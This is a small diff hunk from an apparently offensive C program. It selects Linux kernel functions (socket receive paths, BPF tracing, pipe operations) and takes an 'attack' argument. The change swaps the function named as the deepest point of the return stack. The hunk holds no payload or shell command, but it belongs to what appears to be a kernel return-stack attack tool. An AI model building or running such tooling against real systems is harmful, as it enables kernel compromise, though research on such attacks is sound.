@@ -318,8 +318,8 @@ int main(int argc, char **argv)
 	static const char *const ioctl_functions[] = { "__x64_sys_ioctl" };
 	static const char *const trace_functions[] = { "bpf_trace_run2" };
 	static const char *const receive_functions[] = { "sock_recvmsg", "inet_recvmsg", "tcp_recvmsg", "tcp_recvmsg_locked" };
-	/* Receives the acknowledgement that receiving sends: most of the return stack is in use there. */
-	static const char *const deepest_functions[] = { "tcp_rcv_established" };
+	/* Runs for the acknowledgement that receiving sends, not for data: most of the return stack is in use there. */
+	static const char *const deepest_functions[] = { "tcp_rate_gen" };
 	static const char *const operations[] = { "pipefifo_fops" };
 	const char *attack = argc == 2 ? argv[1] : "";
 	uint64_t address, end;
